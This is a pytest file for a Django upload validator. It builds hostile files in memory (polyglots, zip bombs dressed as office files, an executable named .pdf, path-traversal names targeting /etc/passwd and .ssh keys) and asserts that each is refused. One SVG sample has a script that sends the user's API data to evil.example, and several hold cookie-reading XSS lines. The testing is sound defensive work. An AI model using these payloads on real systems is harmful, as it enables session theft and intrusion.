"""Hostile uploads: each refused with a message naming the field and the rule, never a 500.

Every file is built here, in memory: a PDF that is also a ZIP, a PDF that is a web page, a
PNG with HTML after its end, archive bombs dressed as DOCX and XLSX, an SVG with a script,
HTML named .csv, a path-traversal name, an empty file, a file over the limit, and files
whose extension lies. They go through the applicant's upload endpoint (the edit page's
script uses it) and the shared validator every upload field calls.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from applications.models import Attachment
from applications.services import application_attach
from socialtech.documents.uploads import validate_upload
from tests.calls.factories import FormFieldFactory

MB = 1024 * 1024


# --- files, built in the test ----------------------------------------------------------------


def pdf(text: str = "plan") -> bytes:
    body = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>endobj\n"
        + f"4 0 obj<</Length {len(body)}>>stream\n".encode()
        + body
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x10\x20\x30"))
        + chunk(b"IEND", b"")
    )


def office(folder: str, *, big_part_mb: int = 0) -> bytes:
    """A minimal OOXML package (``word`` or ``xl``); ``big_part_mb`` adds a part of zeros
    written in chunks, so a bomb is built without holding it in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
            "</Types>",
        )
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(f"{folder}/main.xml", "<document/>")
        if big_part_mb:
            with archive.open(f"{folder}/media/image1.bmp", "w", force_zip64=True) as part:
                zeros = b"\x00" * MB
                for _ in range(big_part_mb):
                    part.write(zeros)
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/me/').then(r=>r.text()).then(t=>location='//evil.example/?'+t)"
    b"</script><rect width='10' height='10'/></svg>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"


# --- the applicant's upload endpoint ------------------------------------------------------------


@pytest.fixture
def annex(call_a):
    """A second file field taking office files and images, with the installation's limit."""
    return FormFieldFactory(
        call=call_a,
        key="annex",
        type="file",
        allowed_types=["docx", "xlsx", "png"],
        max_bytes=25 * MB,
    )


def post(client, draft, key: str, name: str, content: bytes):
    return client.post(
        reverse("application_upload", args=[draft.pk, key]),
        {"file": SimpleUploadedFile(name, content)},
    )


def refused(response, key: str) -> str:
    assert response.status_code == 400, response.content[:300]
    body = response.json()
    assert body["code"] == "invalid_file"
    (message,) = body["errors"][key]
    return message


HOSTILE_WORK_PLANS = [
    pytest.param(
        "plan.pdf",
        pdf() + office("word"),
        "Work plan: the file is a PDF document but also holds another file",
        id="pdf-zip-polyglot",
    ),
    pytest.param(
        "plan.pdf",
        b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
        + pdf()[9:],
        "Work plan: the file is a PDF document but starts with web page code",
        id="pdf-html-polyglot",
    ),
    pytest.param("plan.pdf", b"", "Work plan: the file is empty (0 bytes).", id="empty"),
    pytest.param(
        "plan.pdf",
        pdf() + b"%" + b"x" * MB + b"\n",
        "Work plan: the file is larger than the limit of 1 MB.",
        id="over-the-limit",
    ),
    pytest.param(
        "plan.pdf",
        png(),
        "Work plan: the file looks like a PNG image, but this field accepts PDF.",
        id="png-named-pdf",
    ),
    pytest.param(
        "plan.pdf",
        EXE,
        # puremagic names the program format ("a ZAP file"); the rule is what matters.
        "Work plan: the file looks like a ",
        id="exe-named-pdf",
    ),
    pytest.param(
        "plan.pdf",
        SVG_WITH_SCRIPT,
        "Work plan: the file looks like an SVG image (it can hold scripts), but this field "
        "accepts PDF.",
        id="svg-named-pdf",
    ),
]


@pytest.mark.parametrize(("name", "content", "expected"), HOSTILE_WORK_PLANS)
def test_hostile_file_for_the_pdf_field_is_refused_naming_field_and_rule(
    applicant_client, draft, name, content, expected
):
    message = refused(post(applicant_client, draft, "work_plan", name, content), "work_plan")

    assert message.startswith(expected), message
    if "looks like" in expected:
        assert message.endswith("but this field accepts PDF."), message
    assert not Attachment.objects.filter(application=draft).exists()


HOSTILE_ANNEXES = [
    pytest.param(
        "budget.docx",
        office("word", big_part_mb=20),
        r"^Annex: budget\.docx holds a part \(image1\.bmp\) that unpacks to [\d,]+ times its "
        r"packed size; at most 100 times is allowed\.$",
        id="docx-bomb",
    ),
    pytest.param(
        "budget.xlsx",
        office("xl", big_part_mb=20),
        r"^Annex: budget\.xlsx holds a part \(image1\.bmp\) that unpacks to [\d,]+ times its "
        r"packed size; at most 100 times is allowed\.$",
        id="xlsx-bomb",
    ),
    pytest.param(
        "budget.docx",
        office("word") + b"<html><script>alert(1)</script></html>",
        r"^Annex: the file is a Word document \(DOCX\) but also holds another file",
        id="docx-with-html-after-its-end",
    ),
    pytest.param(
        "budget.xlsx",
        b"%PDF-1.4\n" + office("xl"),
        r"^Annex: the file looks like a PDF document, but this field accepts DOCX, XLSX, PNG\.$",
        id="pdf-in-front-of-xlsx",
    ),
    pytest.param(
        "logo.png",
        png() + b"<html><script>alert(1)</script></html>",
        r"^Annex: the file is a PNG image but also holds another file",
        id="png-with-html-after-its-end",
    ),
    pytest.param(
        "logo.png",
        png() + office("word"),
        r"^Annex: the file is a PNG image but also holds another file",
        id="png-zip-polyglot",
    ),
    pytest.param(
        "logo.svg",
        SVG_WITH_SCRIPT,
        r"^Annex: the file looks like an SVG image \(it can hold scripts\), but this field "
        r"accepts DOCX, XLSX, PNG\.$",
        id="svg-with-script",
    ),
    pytest.param(
        "logo.png",
        SVG_WITH_SCRIPT,
        r"^Annex: the file looks like an SVG image",
        id="svg-named-png",
    ),
    pytest.param(
        "budget.docx",
        office("xl"),
        r"^Annex: the file name ends in \.docx, but the file is an Excel workbook \(XLSX\)",
        id="xlsx-named-docx",
    ),
]


@pytest.mark.parametrize(("name", "content", "pattern"), HOSTILE_ANNEXES)
def test_hostile_file_for_an_office_and_image_field_is_refused_naming_field_and_rule(
    applicant_client, draft, annex, name, content, pattern
):
    message = refused(post(applicant_client, draft, "annex", name, content), "annex")

    assert re.match(pattern, message), message
    assert not Attachment.objects.filter(application=draft).exists()


@pytest.mark.parametrize(
    ("key", "name", "content"),
    [
        ("work_plan", "plan.pdf", pdf()),
        ("annex", "budget.docx", office("word")),
        ("annex", "budget.xlsx", office("xl")),
        ("annex", "logo.png", png()),
    ],
)
def test_the_same_kinds_of_file_made_honestly_are_accepted(
    applicant_client, draft, annex, key, name, content
):
    response = post(applicant_client, draft, key, name, content)

    assert response.status_code == 200, response.content
    assert Attachment.objects.get(application=draft, field_key=key).original_name == name


def test_an_office_file_that_unpacks_past_the_total_limit_is_refused(settings):
    settings.UPLOAD_ARCHIVE_MAX_UNPACKED_BYTES = 16 * MB
    settings.UPLOAD_ARCHIVE_MAX_RATIO = 1_000_000
    with pytest.raises(ValidationError) as caught:
        validate_upload(
            SimpleUploadedFile("sheet.xlsx", office("xl", big_part_mb=20)),
            field_label="Budget",
            max_bytes=25 * MB,
            allowed_types=["xlsx"],
        )

    assert caught.value.messages == [
        "Budget: sheet.xlsx unpacks to 20 MB; an office file may unpack to at most 16 MB."
    ]


@pytest.mark.parametrize(
    ("name", "content", "allowed", "expected"),
    [
        (
            "notes.txt",
            SVG_WITH_SCRIPT,
            ["txt"],
            "Notes: the file looks like an SVG image (it can hold scripts), but this field "
            "accepts TXT.",
        ),
        (
            "people.csv",
            b"<!DOCTYPE html><html><body onload=alert(1)>name,email</body></html>",
            ["csv"],
            "Notes: the file looks like a web page (HTML), but this field accepts CSV.",
        ),
    ],
)
def test_markup_dressed_as_text_is_refused(name, content, allowed, expected):
    with pytest.raises(ValidationError) as caught:
        validate_upload(
            SimpleUploadedFile(name, content),
            field_label="Notes",
            max_bytes=MB,
            allowed_types=allowed,
        )

    assert caught.value.messages == [expected]


# --- path traversal -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        ("/var/www/../../root/.ssh/authorized_keys.pdf", "authorized_keys.pdf"),
        ("....//....//plan.pdf", "plan.pdf"),
    ],
)
def test_a_path_traversal_name_is_stored_under_a_generated_name(
    draft, applicant, in_tenant_a, given, shown
):
    upload = io.BytesIO(pdf())
    upload.name = given

    attachment = application_attach(
        application=draft, user=applicant, field_key="work_plan", upload=upload
    )

    assert attachment.original_name == shown
    stored = attachment.file.name
    assert re.fullmatch(rf"applications/{in_tenant_a.slug}/[0-9a-f]{{32}}\.pdf", stored), stored
    root = Path(attachment.file.storage.location).resolve()
    assert Path(attachment.file.path).resolve().is_relative_to(root)
    assert not (Path(django_settings.BASE_DIR).parent / "etc" / "passwd.pdf").exists()


def test_a_path_traversal_name_over_http_is_shown_without_its_folders(applicant_client, draft):
    response = post(applicant_client, draft, "work_plan", "../../etc/passwd.pdf", pdf())

    assert response.status_code == 200
    assert response.json()["attachment"]["name"] == "passwd.pdf"
    assert ".." not in Attachment.objects.get(application=draft).file.name
